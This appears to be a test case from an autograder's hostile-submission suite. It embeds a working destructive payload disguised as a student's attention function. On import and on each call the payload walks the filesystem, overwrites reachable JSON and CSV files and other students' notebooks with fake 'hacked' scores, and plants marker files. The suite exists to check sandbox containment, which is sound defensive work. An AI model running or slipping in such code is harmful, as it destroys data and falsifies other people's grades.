"""Overwrite every .json and .csv the worker can reach, and other students' notebooks: in every
folder from the worker's cwd up to /, and recursively in the home folder, /root, /tmp, /var/tmp,
/work, /home, /srv, the course and grader folders it can infer from its own modules (the probes
and the autograder package), and the working folders of every process it can see. It also drops
a new hostile-<case>.json in every folder where it spoiled something. It starts at import and
carries on (a little per call, revisiting report folders) every time attention runs.

Everything it writes names the case and the run's token, so the runner can tell its work apart. Afterwards other
students' reports must be byte-identical to a run without it, and no file outside the worker's
scratch may be new or changed. Its own grade is unaffected (full marks).

Destructive: the runner only grades it when the preflight worker cannot create files in the
course, the repository, /root or /tmp as the grader sees them (or with HOSTILE_UNSAFE=1).
Dot-folders (.git, .venv, .cache, ...) are skipped, to stay fast.
"""

EXPECT = {
    "attacked": [],
    "statuses": [],
    "keep": ["*"],
    "requires": ["fs_contained"],
}

SOURCE = '''
import json
import os
import sys
import time

_CASE = "@@CASE@@"
_MARK = "@@CASE@@ @@TOKEN@@"
_SYSTEM = ("/proc", "/sys", "/dev", "/usr", "/etc", "/lib", "/lib64", "/bin", "/sbin", "/boot", "/snap")
_NOTEBOOK = json.dumps({"cells": [{"cell_type": "markdown", "metadata": {}, "source": f"hacked by {_MARK}"}],
                        "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
_hot = set()
_planted = set()


def _targets():
    here = os.getcwd()
    ancestors, d = [], here
    while True:
        ancestors.append(d)
        if os.path.dirname(d) == d:
            break
        d = os.path.dirname(d)
    trees = []
    for module in list(sys.modules.values()):
        f = getattr(module, "__file__", None) or ""
        if "autograder" in f or os.path.basename(f).startswith("probes"):
            d = os.path.dirname(f)
            for _ in range(6):
                if os.path.exists(os.path.join(d, "course_config.py")):
                    trees.append(d)
                    break
                d = os.path.dirname(d)
    trees += [here, os.path.expanduser("~"), "/root", "/tmp", "/var/tmp", "/work", "/home", "/srv"]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                cwd = os.readlink(f"/proc/{pid}/cwd")
            except OSError:
                continue
            if cwd != "/" and not cwd.startswith(_SYSTEM):
                trees.append(cwd.removesuffix(" (deleted)"))
    return ancestors, trees


def _spoil(folder, name):
    path = os.path.join(folder, name)
    if name.startswith(f"hostile-{_CASE}"):
        return
    if name.endswith(".json"):
        text = json.dumps({"hacked_by": _MARK, "score": 100})
    elif name.endswith(".csv"):
        text = f"student_id,score,hacked_by\\nanyone,0,{_MARK}\\n"
    elif name.endswith(".ipynb") and "/submitted/" in path:
        text = _NOTEBOOK
    elif name.endswith(".wire"):
        text = f"hacked by {_MARK}"
    else:
        return
    try:
        with open(path, "w") as f:
            f.write(text)
    except OSError:
        return
    if "grades" in path or "reports" in path or "submitted" in path:
        _hot.add(folder)
    if folder not in _planted and len(_planted) < 300:
        _planted.add(folder)
        try:
            with open(os.path.join(folder, f"hostile-{_CASE}.json"), "w") as f:
                f.write(json.dumps({"planted_by": _MARK}))
        except OSError:
            pass


def _walk():
    ancestors, trees = _targets()
    for d in ancestors:
        try:
            names = [n for n in os.listdir(d) if os.path.isfile(os.path.join(d, n))]
        except OSError:
            continue
        yield d, names
    seen = set()
    for top in trees:
        for d, dirs, files in os.walk(top):
            if d in seen or d.startswith(_SYSTEM):
                dirs[:] = []
                continue
            seen.add(d)
            dirs[:] = [x for x in dirs if not x.startswith(".")]
            yield d, files


_walker = _walk()


def _advance(seconds):
    global _walker
    for d in list(_hot):
        try:
            for name in os.listdir(d):
                _spoil(d, name)
        except OSError:
            pass
    deadline = time.monotonic() + seconds
    while _walker is not None and time.monotonic() < deadline:
        try:
            d, names = next(_walker)
        except StopIteration:
            _walker = None
            break
        for name in names:
            _spoil(d, name)


_advance(1.0)
_honest_sdpa = scaled_dot_product_attention


def scaled_dot_product_attention(Q, K, V, mask=None):
    _advance(0.3)
    return _honest_sdpa(Q, K, V, mask)
'''
